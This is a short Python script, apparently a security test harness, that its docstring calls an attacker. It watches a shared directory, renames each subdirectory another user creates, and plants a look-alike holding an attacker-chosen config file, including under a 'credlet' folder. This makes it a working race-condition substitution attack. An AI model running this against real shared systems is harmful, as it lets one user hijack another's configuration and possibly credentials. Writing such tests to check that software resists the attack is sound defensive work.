"""Attacker that replaces directories that another user creates in a directory.

    swapper.py DIRECTORY UID CONFIG MARK

Renames each new directory of UID and creates another one of the same name, with CONFIG as its file `config` and as that of
`process-PID` for every process of UID. Then creates the file MARK. Prints `READY`, then `SWAPPED` or `REFUSED` for each directory.
"""

import os
import shutil
import sys
import time

directory, uid, config, mark = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]


def processes():
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.stat(f"/proc/{name}").st_uid == uid:
                yield name
        except OSError:
            pass


os.umask(0o022)
print("READY", flush=True)
swapped = set()
while True:
    for name in os.listdir(directory):
        path = os.path.join(directory, name)
        if name in swapped or name.startswith(".") or os.stat(path).st_uid != uid:
            continue
        # Its owner is about to write into it.
        time.sleep(0.3)
        try:
            os.rename(path, os.path.join(directory, "." + name))
        except OSError as error:
            print("REFUSED", name, error.strerror, flush=True)
            swapped.add(name)
            continue
        swapped.add(name)
        for folder in [path, os.path.join(path, "credlet")]:
            os.makedirs(folder, exist_ok=True)
            shutil.copy(config, os.path.join(folder, "config"))
            for process in processes():
                os.mkdir(os.path.join(folder, f"process-{process}"))
                shutil.copy(config, os.path.join(folder, f"process-{process}", "config"))
        print("SWAPPED", name, flush=True)
        open(mark, "w").close()
    time.sleep(0.05)
